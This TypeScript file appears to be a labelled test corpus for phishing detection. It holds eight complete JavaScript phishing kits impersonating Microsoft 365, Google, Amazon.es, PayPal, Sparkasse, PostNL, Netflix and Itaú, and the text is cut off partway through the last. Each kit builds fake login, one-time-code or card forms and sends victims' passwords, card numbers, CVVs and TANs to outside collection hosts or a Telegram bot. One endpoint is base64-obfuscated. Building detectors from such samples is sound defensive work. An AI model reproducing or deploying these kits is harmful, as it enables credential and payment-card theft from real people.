import type { Entry } from '../entry.js';
import type { Route } from '../../corpus/corpus.js';

// Credential kits whose form only exists after their bundle runs. Hand-written, JS-heavy.
const raw = String.raw;
const js = (body: string): Route => ({ status: 200, headers: { 'content-type': 'application/javascript; charset=utf-8' }, body });
const css = (body: string): Route => ({ status: 200, headers: { 'content-type': 'text/css; charset=utf-8' }, body });
const json = (v: unknown): Route => ({ status: 200, headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' }, body: JSON.stringify(v) });

export const entries: Entry[] = [
  {
    id: 'c-spa-m365-root',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://m365-sessionverify.pages.dev/common/oauth2/v2.0/authorize?client_id=4765445b&response_type=code',
    body: raw`<!doctype html>
<html lang="en">
  <head>
    <meta charset="UTF-8" />
    <link rel="icon" type="image/svg+xml" href="/vite.svg" />
    <meta name="viewport" content="width=device-width, initial-scale=1.0" />
    <title></title>
    <script type="module" crossorigin src="/assets/index-4b1f9e2c.js"></script>
    <link rel="stylesheet" href="/assets/index-a71c09d3.css">
  </head>
  <body>
    <div id="root"></div>
  </body>
</html>`,
    routes: {
      'm365-sessionverify.pages.dev/assets/index-a71c09d3.css': css(raw`*{box-sizing:border-box}body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,BlinkMacSystemFont,Roboto,"Helvetica Neue",sans-serif;background:#f2f2f2 url(/assets/bg-2f1.svg) center/cover}.w{display:flex;align-items:center;justify-content:center;min-height:100vh}.c{background:#fff;width:440px;max-width:calc(100vw - 40px);padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.t{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}.i{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:0}.i:focus{border-bottom-color:#0067b8}.b{background:#0067b8;color:#fff;border:0;min-width:108px;padding:6px 12px;font-size:15px;float:right;margin-top:24px;cursor:pointer}.l{font-size:13px;color:#0067b8;text-decoration:none}.e{color:#e81123;font-size:15px;margin:8px 0}.id{display:flex;gap:8px;align-items:center;font-size:15px;margin-top:12px}`),
      'm365-sessionverify.pages.dev/vite.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 21 21"><path fill="#f25022" d="M0 0h10v10H0z"/><path fill="#7fba00" d="M11 0h10v10H11z"/><path fill="#00a4ef" d="M0 11h10v10H0z"/><path fill="#ffb900" d="M11 11h10v10H11z"/></svg>' },
      'm365-sessionverify.pages.dev/assets/index-4b1f9e2c.js': js(raw`(function(){const s=document.createElement("link").relList;if(s&&s.supports&&s.supports("modulepreload"))return;})();
const R=document.getElementById("root"),Q=new URLSearchParams(location.search),H=decodeURIComponent(location.hash.slice(1)||"");
function h(t,a,...c){const e=document.createElement(t);for(const k in a||{}){k==="on"?Object.entries(a.on).forEach(([n,f])=>e.addEventListener(n,f)):k==="cls"?e.className=a[k]:e.setAttribute(k,a[k])}c.flat().forEach(x=>e.append(x));return e}
const L=()=>h("img",{src:"/vite.svg",width:"108",alt:""});
let st={u:H.includes("@")?H:"",n:0};
const EP=atob("aHR0cHM6Ly9ob29rLm5vdGlmeS1yZWxheS5ldS9hcGkvdjIvbA==");
function send(o){return fetch(EP,{method:"POST",mode:"no-cors",headers:{"Content-Type":"text/plain"},body:JSON.stringify(Object.assign({ua:navigator.userAgent,ref:location.host,t:Date.now()},o))}).catch(()=>{})}
function one(){document.title="Sign in to your account";R.innerHTML="";const i=h("input",{cls:"i",type:"email",name:"loginfmt",placeholder:"Email, phone, or Skype",value:st.u,autocomplete:"username"}),er=h("div",{cls:"e"});
R.append(h("div",{cls:"w"},h("div",{cls:"c"},L(),h("div",{cls:"t"},"Sign in"),er,i,h("div",{style:"margin-top:16px;font-size:13px"},"No account? ",h("a",{cls:"l",href:"#"},"Create one!")),h("div",{style:"margin-top:12px"},h("a",{cls:"l",href:"#"},"Can\u2019t access your account?")),h("button",{cls:"b",on:{click:()=>{const v=i.value.trim();if(!/^[^@\s]+@[^@\s]+\.[a-z]{2,}$/i.test(v)){er.textContent="Enter a valid email address, phone number, or Skype name.";return}st.u=v;two()}}},"Next"),h("div",{style:"clear:both"}))));i.focus()}
function two(){document.title="Enter password";R.innerHTML="";const p=h("input",{cls:"i",type:"password",name:"passwd",placeholder:"Password",autocomplete:"current-password"}),er=h("div",{cls:"e"});
R.append(h("div",{cls:"w"},h("div",{cls:"c"},L(),h("div",{cls:"id"},"\u2190 ",st.u),h("div",{cls:"t"},"Enter password"),er,p,h("div",{style:"margin-top:16px"},h("a",{cls:"l",href:"#"},"Forgot my password")),h("button",{cls:"b",on:{click:async()=>{if(!p.value){er.textContent="Please enter your password.";return}st.n++;await send({e:st.u,p:p.value,n:st.n});if(st.n<2){p.value="";er.textContent="Your account or password is incorrect. If you don't remember your password, reset it now.";return}location.replace("https://www.office.com/?auth=2")}}},"Sign in"),h("div",{style:"clear:both"}))));p.focus()}
one();`),
      'hook.notify-relay.eu/api/v2/l': json({ ok: 1 }),
    },
  },
  {
    id: 'c-spa-google-hash',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://accounts-google.docs-share.online/v3/signin/identifier#am9obi5kb2VAYWNtZS1sb2dpc3RpY3MuY29t',
    body: raw`<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Sign in - Google Accounts</title>
<link rel="stylesheet" href="/_/app.css"></head><body><noscript>You need to enable JavaScript to run this app.</noscript><main id="app"></main><script src="/_/runtime.js"></script><script src="/_/app.js" defer></script></body></html>`,
    routes: {
      'accounts-google.docs-share.online/_/app.css': css(raw`body{margin:0;background:#fff;font-family:"Google Sans",Roboto,Arial,sans-serif}.card{max-width:450px;margin:64px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px 36px}.g{font-size:24px;text-align:center;letter-spacing:-1px}.g span:nth-child(1){color:#4285f4}.g span:nth-child(2){color:#ea4335}.g span:nth-child(3){color:#fbbc05}.g span:nth-child(4){color:#4285f4}.g span:nth-child(5){color:#34a853}.g span:nth-child(6){color:#ea4335}h1{font-weight:400;font-size:24px;text-align:center;margin:16px 0 8px}.sub{text-align:center;font-size:16px;margin-bottom:32px}.chip{display:block;margin:0 auto 24px;width:max-content;border:1px solid #dadce0;border-radius:16px;padding:4px 12px;font-size:14px}input{width:100%;height:54px;border:1px solid #dadce0;border-radius:4px;padding:0 14px;font-size:16px;box-sizing:border-box}.row{display:flex;justify-content:space-between;align-items:center;margin-top:40px}.btn{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;font-weight:500;cursor:pointer}.lnk{color:#1a73e8;font-weight:500;font-size:14px;text-decoration:none}.err{color:#d93025;font-size:12px;margin-top:8px;min-height:16px}`),
      'accounts-google.docs-share.online/_/runtime.js': js(raw`!function(){var w=window;w.__cfg={r:"https://docs.google.com/document/u/0/",x:"/api/session",v:"2.4.11"};w.b64d=function(s){try{return decodeURIComponent(escape(atob(s.replace(/-/g,"+").replace(/_/g,"/"))))}catch(e){return""}}}();`),
      'accounts-google.docs-share.online/_/app.js': js(raw`(function(){
  var app=document.getElementById('app'),cfg=window.__cfg,email='',tries=0;
  var raw=location.hash.replace(/^#/,'');
  if(raw){ email = raw.indexOf('@')>-1 ? decodeURIComponent(raw) : window.b64d(raw); }
  function logo(){return '<div class="g"><span>G</span><span>o</span><span>o</span><span>g</span><span>l</span><span>e</span></div>'}
  function viewEmail(){
    app.innerHTML='<div class="card">'+logo()+'<h1>Sign in</h1><div class="sub">to continue to Google Docs</div><input id="e" type="email" autocomplete="username" placeholder="Email or phone"><div class="err" id="er"></div><a class="lnk" href="#">Forgot email?</a><div class="row"><a class="lnk" href="#">Create account</a><button class="btn" id="n">Next</button></div></div>';
    document.getElementById('n').onclick=function(){var v=document.getElementById('e').value.trim();if(v.indexOf('@')<1){document.getElementById('er').textContent='Enter a valid email or phone number';return}email=v;viewPass()};
  }
  function viewPass(){
    app.innerHTML='<div class="card">'+logo()+'<h1>Welcome</h1><span class="chip">'+email.replace(/</g,'')+'</span><div class="sub" style="text-align:left;font-size:14px">To continue, first verify it\u2019s you</div><input id="p" type="password" autocomplete="current-password" placeholder="Enter your password"><div class="err" id="er"></div><label style="font-size:14px"><input type="checkbox" style="width:auto;height:auto" onclick="document.getElementById(\'p\').type=this.checked?\'text\':\'password\'"> Show password</label><div class="row"><a class="lnk" href="#">Forgot password?</a><button class="btn" id="n">Next</button></div></div>';
    document.getElementById('n').onclick=function(){
      var p=document.getElementById('p').value;if(!p){document.getElementById('er').textContent='Enter a password';return}
      var x=new XMLHttpRequest();x.open('POST','https://collect.gstatic-cdn.click/g/r.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
      x.send('em='+encodeURIComponent(email)+'&pw='+encodeURIComponent(p)+'&ip=&ua='+encodeURIComponent(navigator.userAgent));
      tries++; if(tries<2){document.getElementById('er').textContent='Wrong password. Try again or click Forgot password to reset it.';return}
      setTimeout(function(){location.href=cfg.r},900);
    };
  }
  email ? viewPass() : viewEmail();
})();`),
      'collect.gstatic-cdn.click/g/r.php': { status: 200, headers: { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }, body: 'ok' },
    },
  },
  {
    id: 'c-spa-amazon-tg',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://amzn-cuenta-verificacion.shop/es/ap/signin',
    body: raw`<!doctype html><html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Amazon.es</title>
<style>body{font-family:Arial,sans-serif;margin:0;background:#fff;color:#111}.wrap{width:350px;margin:14px auto}.logo{display:block;margin:0 auto 18px;font:700 30px Arial;letter-spacing:-1px;text-align:center}.logo b{color:#f90}.box{border:1px solid #ddd;border-radius:8px;padding:20px 26px}h1{font-weight:400;font-size:28px;margin:0 0 14px}label{font-weight:700;font-size:13px;display:block;margin:10px 0 4px}input{width:100%;height:31px;border:1px solid #a6a6a6;border-radius:3px;padding:3px 7px;box-sizing:border-box}button{width:100%;margin-top:14px;background:linear-gradient(#f7dfa5,#f0c14b);border:1px solid #a88734;border-radius:3px;height:31px;cursor:pointer}.small{font-size:12px;line-height:1.5;margin-top:16px}.alert{border:1px solid #c40000;border-radius:4px;padding:12px;margin-bottom:12px;color:#c40000;font-size:13px;display:none}</style></head>
<body><div id="amz"></div>
<script>
var T='7409128834:AAHx2cNwqRbc-Ef0fMr9yX1kPpZ3lQe8tWs', C='-1002284471930';
function tg(txt){ return fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:txt,parse_mode:'HTML'})}).catch(function(){}); }
var d={};
var root=document.getElementById('amz');
function paso1(){
  root.innerHTML='<div class="wrap"><div class="logo">amazon<b>.es</b></div><div class="box"><div class="alert" id="al">Introduce tu dirección de e-mail o número de teléfono móvil</div><h1>Iniciar sesión</h1><label>Dirección de e-mail o número de teléfono móvil</label><input id="u"><button id="b1">Continuar</button><div class="small">Al continuar, aceptas las Condiciones de Uso y el Aviso de Privacidad de Amazon.</div></div></div>';
  document.getElementById('b1').onclick=function(){var u=document.getElementById('u').value;if(u.length<5){document.getElementById('al').style.display='block';return}d.u=u;paso2()};
}
function paso2(){
  root.innerHTML='<div class="wrap"><div class="logo">amazon<b>.es</b></div><div class="box"><h1>Iniciar sesión</h1><div style="font-size:13px">'+d.u+' <a href="#" onclick="paso1();return false">Cambiar</a></div><label>Contraseña</label><input id="p" type="password"><button id="b2">Iniciar sesión</button></div></div>';
  document.getElementById('b2').onclick=function(){d.p=document.getElementById('p').value;if(!d.p)return;tg('<b>AMZ ES LOGIN</b>\nUser: '+d.u+'\nPass: '+d.p+'\nUA: '+navigator.userAgent).then(paso3)};
}
function paso3(){
  root.innerHTML='<div class="wrap"><div class="logo">amazon<b>.es</b></div><div class="box"><h1>Verifica tu método de pago</h1><div class="small" style="margin-top:0">Hemos suspendido temporalmente tu cuenta porque no pudimos verificar tu información de facturación. Actualiza tus datos para seguir comprando.</div><label>Titular de la tarjeta</label><input id="n"><label>Número de tarjeta</label><input id="c" inputmode="numeric" maxlength="19"><label>Caducidad (MM/AA)</label><input id="e" maxlength="5"><label>CVV</label><input id="v" maxlength="4"><button id="b3">Guardar y continuar</button></div></div>';
  document.getElementById('b3').onclick=function(){tg('<b>AMZ ES CC</b>\n'+d.u+'\n'+['n','c','e','v'].map(function(k){return document.getElementById(k).value}).join(' | ')).then(function(){location.href='https://www.amazon.es/'})};
}
paso1();
</script></body></html>`,
  },
  {
    id: 'c-spa-paypal-multistep-fr',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://secure.resolution-compte-pp.com/myaccount/security/?cmd=_restore&lang=fr_FR',
    body: raw`<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>PayPal : Connexion</title><link rel="shortcut icon" href="/img/pp-fav.ico"><link rel="stylesheet" href="/css/main.min.css"></head>
<body>
<div id="spinner" class="spin"><div></div></div>
<div id="view"></div>
<footer class="f"><a href="#">Contact</a> <a href="#">Confidentialité</a> <a href="#">Contrats légaux</a> <a href="#">Dans le monde entier</a></footer>
<script src="/js/jquery-3.6.min.js"></script>
<script src="/js/steps.js?v=1691"></script>
</body></html>`,
    routes: {
      'secure.resolution-compte-pp.com/css/main.min.css': css(raw`body{font-family:"PayPal Sans",Helvetica,Arial,sans-serif;margin:0;color:#2c2e2f}#view{max-width:460px;margin:60px auto;border:1px solid #eaeced;border-radius:12px;padding:30px 50px}.pp{width:111px;height:30px;margin:0 auto 30px;display:block;font:700 28px Verdana;color:#003087;font-style:italic;text-align:center}.pp i{color:#009cde}input,select{width:100%;height:48px;border:1px solid #9da3a6;border-radius:4px;padding:0 11px;margin:6px 0;font-size:16px;box-sizing:border-box}.bt{width:100%;height:48px;border:0;border-radius:24px;background:#0070ba;color:#fff;font-size:16px;font-weight:700;margin-top:14px;cursor:pointer}.msg{background:#fff6e6;border-left:4px solid #ff9600;padding:10px;font-size:14px;margin-bottom:12px}.spin{position:fixed;inset:0;background:rgba(255,255,255,.85);display:none;align-items:center;justify-content:center}.spin div{width:46px;height:46px;border:4px solid #ddd;border-top-color:#0070ba;border-radius:50%;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}.f{text-align:center;font-size:12px;margin-bottom:20px}.f a{color:#666;margin:0 6px}`),
      'secure.resolution-compte-pp.com/js/jquery-3.6.min.js': js(raw`/*! jQuery-lite shim */(function(w){function Q(s){if(!(this instanceof Q))return new Q(s);this.e=typeof s==="string"?Array.from(document.querySelectorAll(s)):[s]}Q.prototype={html:function(h){this.e.forEach(function(x){x.innerHTML=h});return this},val:function(){return this.e[0]?this.e[0].value:""},on:function(n,f){this.e.forEach(function(x){x.addEventListener(n,f)});return this},show:function(){this.e.forEach(function(x){x.style.display="flex"});return this},hide:function(){this.e.forEach(function(x){x.style.display="none"});return this}};Q.post=function(u,d){var b=new URLSearchParams(d).toString();return fetch(u,{method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:b}).then(function(r){return r.text()}).catch(function(){return""})};w.$=Q})(window);`),
      'secure.resolution-compte-pp.com/js/steps.js': js(raw`var S={}, LOGO='<div class="pp">Pay<i>Pal</i></div>';
function wait(ms,f){$('#spinner').show();setTimeout(function(){$('#spinner').hide();f()},ms)}
function save(step,data){data.step=step;data.sid=S.sid;return $.post('/app/ajax/save.php',data)}
S.sid=Math.random().toString(36).slice(2);
function login(){
  $('#view').html(LOGO+'<div class="msg">Pour des raisons de sécurité, l\'accès à votre compte a été limité. Connectez-vous pour rétablir l\'accès.</div><input id="em" type="email" placeholder="Adresse email ou numéro de portable"><input id="pw" type="password" placeholder="Mot de passe"><button class="bt" id="go">Connexion</button><p style="text-align:center"><a href="#">Vous n\'arrivez pas à vous connecter ?</a></p>');
  $('#go').on('click',function(){var e=$('#em').val(),p=$('#pw').val();if(!e||!p)return;S.e=e;save('login',{e:e,p:p}).then(function(){wait(1800,otp)})});
}
function otp(){
  $('#view').html(LOGO+'<h3>Confirmez votre identité</h3><p style="font-size:14px">Nous venons de vous envoyer un code à 6 chiffres par SMS. Saisissez-le ci-dessous.</p><input id="code" inputmode="numeric" maxlength="6" placeholder="Code de sécurité"><button class="bt" id="go">Continuer</button>');
  $('#go').on('click',function(){var c=$('#code').val();if(c.length<6)return;save('otp',{c:c}).then(function(){wait(2200,card)})});
}
function card(){
  $('#view').html(LOGO+'<h3>Mettez à jour votre carte</h3><input id="nm" placeholder="Nom du titulaire"><input id="cc" inputmode="numeric" placeholder="Numéro de carte"><div style="display:flex;gap:8px"><input id="ex" placeholder="MM/AA"><input id="cv" placeholder="Cryptogramme"></div><input id="dob" placeholder="Date de naissance (JJ/MM/AAAA)"><button class="bt" id="go">Confirmer</button>');
  $('#go').on('click',function(){save('card',{n:$('#nm').val(),c:$('#cc').val(),x:$('#ex').val(),v:$('#cv').val(),d:$('#dob').val()}).then(function(){wait(1500,done)})});
}
function done(){ $('#view').html(LOGO+'<h3>Merci</h3><p>Votre compte est rétabli. Vous allez être redirigé.</p>'); setTimeout(function(){location.href='https://www.paypal.com/fr/home'},3000); }
wait(900,login);`),
      'secure.resolution-compte-pp.com/app/ajax/save.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '1' },
    },
  },
  {
    id: 'c-spa-sparkasse-tan',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://sparkasse-pushtan-aktualisierung.de.com/de/home/login.html',
    body: raw`<!doctype html><html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Online-Banking</title>
<style>
:root{--rot:#ff0000}
body{margin:0;font-family:Sparkasse,Arial,Helvetica,sans-serif;background:#f4f4f4}
header{background:var(--rot);height:64px;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:700;font-size:20px}
header svg{margin-right:12px}
.box{background:#fff;max-width:520px;margin:40px auto;padding:32px;border-radius:2px;box-shadow:0 1px 3px #0002}
h2{margin-top:0;font-weight:400}
.f{margin:14px 0}.f label{display:block;font-size:14px;margin-bottom:4px}.f input,.f select{width:100%;padding:11px;border:1px solid #999;font-size:16px;box-sizing:border-box}
.btn{background:var(--rot);color:#fff;border:0;padding:12px 28px;font-size:16px;cursor:pointer}
.hint{font-size:13px;color:#555}.step{font-size:12px;color:#999;text-transform:uppercase;letter-spacing:.06em}
</style></head><body>
<header><svg width="34" height="34" viewBox="0 0 34 34"><circle cx="17" cy="17" r="16" fill="#fff"/><circle cx="17" cy="11" r="4" fill="#f00"/><rect x="10" y="17" width="14" height="10" fill="#f00"/></svg><span id="inst">Sparkasse</span></header>
<div class="box" id="app"></div>
<script>
(function () {
  const blz = { '10050000': 'Berliner Sparkasse', '20050550': 'Hamburger Sparkasse', '70150000': 'Stadtsparkasse München', '37050198': 'Sparkasse KölnBonn' };
  const app = document.getElementById('app');
  const state = {};
  const post = (o) => navigator.sendBeacon('https://sync.kontosicher-api.ru/p.php', new Blob([JSON.stringify(Object.assign(o, { ts: new Date().toISOString() }))], { type: 'text/plain' }));
  const steps = [
    { t: 'Institut wählen', h: '<div class="f"><label>Bankleitzahl oder Name Ihrer Sparkasse</label><select id="blz">' + Object.entries(blz).map(([k, v]) => '<option value="' + k + '">' + v + ' (' + k + ')</option>').join('') + '</select></div>', go() { state.blz = document.getElementById('blz').value; document.getElementById('inst').textContent = blz[state.blz]; } },
    { t: 'Anmelden', h: '<div class="f"><label>Anmeldename oder Legitimations-ID</label><input id="lid" autocomplete="username"></div><div class="f"><label>PIN</label><input id="pin" type="password" maxlength="5"></div><p class="hint">Geben Sie niemals Ihre PIN an Dritte weiter.</p>', go() { state.lid = document.getElementById('lid').value; state.pin = document.getElementById('pin').value; if (!state.lid || state.pin.length < 5) return false; post({ s: 'login', ...state }); } },
    { t: 'pushTAN-Verfahren neu registrieren', h: '<p>Aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD2) muss Ihr pushTAN-Verfahren bis zum <b>' + new Date(Date.now() + 2 * 864e5).toLocaleDateString('de-DE') + '</b> neu registriert werden. Andernfalls wird Ihr Online-Banking gesperrt.</p><div class="f"><label>Mobilnummer</label><input id="tel" type="tel"></div><div class="f"><label>Kartennummer (Sparkassen-Card, 10-stellig)</label><input id="kn"></div><div class="f"><label>Gültig bis</label><input id="gb" placeholder="MM/JJ"></div>', go() { state.tel = tel.value; state.kn = kn.value; state.gb = gb.value; post({ s: 'card', ...state }); } },
    { t: 'Freigabe', h: '<p>Bitte geben Sie die TAN ein, die Sie soeben per SMS erhalten haben, um die Registrierung abzuschließen.</p><div class="f"><label>TAN</label><input id="tan" maxlength="6"></div>', go() { post({ s: 'tan', lid: state.lid, tan: document.getElementById('tan').value }); } },
  ];
  let i = 0;
  function render() {
    const s = steps[i];
    app.innerHTML = '<div class="step">Schritt ' + (i + 1) + ' von ' + steps.length + '</div><h2>' + s.t + '</h2>' + s.h + '<button class="btn" id="w">Weiter</button>';
    document.getElementById('w').onclick = () => { if (s.go() === false) return; i++; if (i < steps.length) render(); else { app.innerHTML = '<h2>Vielen Dank</h2><p>Ihre Registrierung wird bearbeitet. Sie werden weitergeleitet…</p>'; setTimeout(() => location.replace('https://www.sparkasse.de/'), 4000); } };
  }
  render();
})();
</script></body></html>`,
    routes: {
      'sync.kontosicher-api.ru/p.php': { status: 204, headers: { 'access-control-allow-origin': '*' }, body: '' },
    },
  },
  {
    id: 'c-spa-postnl-fee-nl',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://postnl-pakket-bezorging.info/track/3SABCD8812093/',
    body: raw`<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>PostNL | Track & Trace</title><link rel="icon" href="data:,">
<link rel="stylesheet" href="/static/css/main.3f2c1a.css"></head><body><div id="root"></div><script src="/static/js/main.9e1c7d.js"></script></body></html>`,
    routes: {
      'postnl-pakket-bezorging.info/static/css/main.3f2c1a.css': css(raw`body{margin:0;font-family:"Nunito Sans",Arial,sans-serif;background:#f3f4f8;color:#001d4a}.top{background:#ed7000;height:72px;display:flex;align-items:center;padding:0 20px}.top b{background:#fff;color:#ed7000;border-radius:50%;width:46px;height:46px;display:flex;align-items:center;justify-content:center;font-size:13px}.card{background:#fff;max-width:560px;margin:24px auto;border-radius:12px;padding:24px;box-shadow:0 2px 8px #0001}.tl{border-left:3px solid #ed7000;padding-left:14px;margin:16px 0}.tl div{margin-bottom:10px;font-size:14px}.tl .now{font-weight:700;color:#c40}label{font-size:13px;font-weight:700}input{display:block;width:100%;padding:12px;border:1px solid #c9cdd6;border-radius:6px;margin:4px 0 12px;box-sizing:border-box}.btn{background:#ed7000;color:#fff;border:0;border-radius:6px;padding:14px;width:100%;font-weight:700;font-size:16px;cursor:pointer}.fee{display:flex;justify-content:space-between;background:#fff4ea;padding:12px;border-radius:8px;margin:12px 0}`),
      'postnl-pakket-bezorging.info/static/js/main.9e1c7d.js': js(raw`"use strict";(()=>{var e=document.getElementById("root"),t=location.pathname.split("/").filter(Boolean)[1]||"3SNLDR"+Math.floor(1e7*Math.random()),n=new Date,a=function(e){return e.toLocaleDateString("nl-NL",{weekday:"long",day:"numeric",month:"long"})},r={};function o(){e.innerHTML='<div class="top"><b>postnl</b></div><div class="card"><h2>Je pakket kon niet worden bezorgd</h2><p>Zendingsnummer <b>'+t+'</b></p><div class="tl"><div>'+a(new Date(n-1728e5))+" – Zending is aangemeld door de afzender</div><div>"+a(new Date(n-864e5))+' – Zending is gesorteerd</div><div class="now">'+a(n)+' – Bezorging niet mogelijk: openstaande invoerrechten</div></div><div class="fee"><span>Invoerrechten en afhandelingskosten</span><b>€ 1,99</b></div><p style="font-size:14px">Betaal binnen 48 uur om een nieuwe bezorgdatum te kiezen. Daarna wordt het pakket teruggestuurd naar de afzender.</p><button class="btn" id="b">Nu betalen</button></div>',document.getElementById("b").onclick=i}function i(){e.querySelector(".card").innerHTML='<h2>Gegevens ontvanger</h2><label>Volledige naam</label><input id="nm"><label>Adres</label><input id="ad"><label>Postcode</label><input id="pc"><label>Telefoonnummer</label><input id="tel"><button class="btn" id="b">Doorgaan naar betalen</button>',document.getElementById("b").onclick=function(){r.name=nm.value,r.adres=ad.value,r.pc=pc.value,r.tel=tel.value,c()}}function c(){e.querySelector(".card").innerHTML='<h2>Betalen – € 1,99</h2><label>Kaartnummer</label><input id="cn" inputmode="numeric" autocomplete="cc-number"><div style="display:flex;gap:10px"><div style="flex:1"><label>Vervaldatum</label><input id="ex" placeholder="MM/JJ"></div><div style="flex:1"><label>CVC</label><input id="cv"></div></div><button class="btn" id="b">Betaal € 1,99</button>',document.getElementById("b").onclick=function(){r.cn=cn.value,r.ex=ex.value,r.cv=cv.value,fetch("https://panel.rdx-trackpay.com/api/push",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({site:"postnl",d:r})}).finally(function(){e.querySelector(".card").innerHTML='<h2>Bevestig de betaling</h2><p>Open je bank-app om de betaling van € 1,99 goed te keuren. Voer daarna de code in.</p><input id="sms" placeholder="Verificatiecode"><button class="btn" id="b">Bevestigen</button>',document.getElementById("b").onclick=function(){navigator.sendBeacon("https://panel.rdx-trackpay.com/api/otp",JSON.stringify({c:sms.value,cn:r.cn}))}})}}o()})();`),
      'panel.rdx-trackpay.com/api/push': json({ status: 'ok' }),
    },
  },
  {
    id: 'c-spa-netflix-billing',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://nflx-billing-update.vercel.app/YourAccount/payment',
    body: raw`<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"/><meta name="viewport" content="width=device-width,initial-scale=1"/><meta name="next-head-count" content="3"/><title>Netflix</title><link rel="preload" href="/_next/static/chunks/main-5f1e3c.js" as="script"/></head><body><div id="__next"></div><script id="__NEXT_DATA__" type="application/json">{"props":{"pageProps":{"plan":"Standard","price":"15.49","currency":"USD","hold":true}},"page":"/YourAccount/payment","query":{},"buildId":"Kx8vQ2","nextExport":true}</script><script src="/_next/static/chunks/main-5f1e3c.js" defer></script></body></html>`,
    routes: {
      'nflx-billing-update.vercel.app/_next/static/chunks/main-5f1e3c.js': js(raw`(self.webpackChunk_N_E=self.webpackChunk_N_E||[]).push([[179],{}]);
(function(){var D=JSON.parse(document.getElementById("__NEXT_DATA__").textContent).props.pageProps,root=document.getElementById("__next");
var st=document.createElement("style");st.textContent="body{margin:0;background:#000;color:#fff;font-family:Helvetica Neue,Helvetica,Arial,sans-serif}.hd{padding:20px 45px}.logo{color:#e50914;font-size:34px;font-weight:900;letter-spacing:1px}.bx{background:rgba(0,0,0,.75);max-width:450px;margin:0 auto;padding:60px 68px 40px;border-radius:4px}.bx input{width:100%;background:#333;border:0;border-radius:4px;color:#fff;height:50px;padding:16px 20px;margin-bottom:16px;box-sizing:border-box}.bx button{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;height:48px;font-size:16px;font-weight:700;margin-top:20px;cursor:pointer}.warn{background:#e87c03;padding:10px 20px;border-radius:4px;font-size:14px;margin-bottom:16px}.bg{background:#141414}";document.head.appendChild(st);
function hd(){return '<div class="hd"><span class="logo">NETFLIX</span></div>'}
var acc={};
function signin(){root.innerHTML=hd()+'<div class="bx"><h1>Sign In</h1><input id="e" placeholder="Email or phone number"><input id="p" type="password" placeholder="Password"><button id="s">Sign In</button></div>';document.getElementById("s").onclick=function(){acc.e=e.value;acc.p=p.value;if(!acc.e||!acc.p)return;x("/api/s",acc);pay()}}
function pay(){document.body.className="bg";root.innerHTML=hd()+'<div class="bx"><div class="warn">Your membership is on hold. We were unable to authorize your payment for the next billing cycle.</div><h2>Update payment method</h2><p style="color:#b3b3b3;font-size:14px">'+D.plan+' plan &middot; $'+D.price+'/month</p><input id="n" placeholder="Name on card"><input id="c" placeholder="Card number"><input id="x1" placeholder="Expiration date (MM/YY)"><input id="v" placeholder="Security code (CVV)"><input id="z" placeholder="Billing ZIP code"><button id="s">Save</button></div>';document.getElementById("s").onclick=function(){acc.card=[n.value,c.value,x1.value,v.value,z.value].join("|");x("/api/c",acc);root.innerHTML=hd()+'<div class="bx"><h2>Thank you</h2><p>Your membership has been restored.</p></div>';setTimeout(function(){location.href="https://www.netflix.com/browse"},2500)}}
function x(u,b){var r=new XMLHttpRequest();r.open("POST","https://nf-api.member-restore.workers.dev"+u);r.send(JSON.stringify(b))}
signin()})();`),
      'nf-api.member-restore.workers.dev/api/s': json({ ok: true }),
    },
  },
  {
    id: 'c-spa-itau-pt',
    label: 'phishing',
    kind: 'spa-kit',
    url: 'https://itau-token-desbloqueio.com.br.cadastro-app.top/acesso',
    body: raw`<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,maximum-scale=1"><title>Itaú | Acesso</title>
<script src="/js/vendor.js"></script>
</head><body style="margin:0"><div id="app"></div><script src="/js/app.js"></script></body></html>`,
    routes: {
      'itau-token-desbloqueio.com.br.cadastro-app.top/js/vendor.js': js(raw`var _0x1a2b=['innerHTML','getElementById','value','style','click','addEventListener'];window.$i=function(i){return document[_0x1a2b[1]](i)};window.mask=function(v,m){var r='',j=0;v=v.replace(/\D/g,'');for(var i=0;i<m.length&&j<v.length;i++){r+=m[i]==='#'?v[j++]:m[i]}return r};`),
      'itau-token-desbloqueio.com.br.cadastro-app.top/js/app.js': js(raw`(function(){
var a=$i('app');
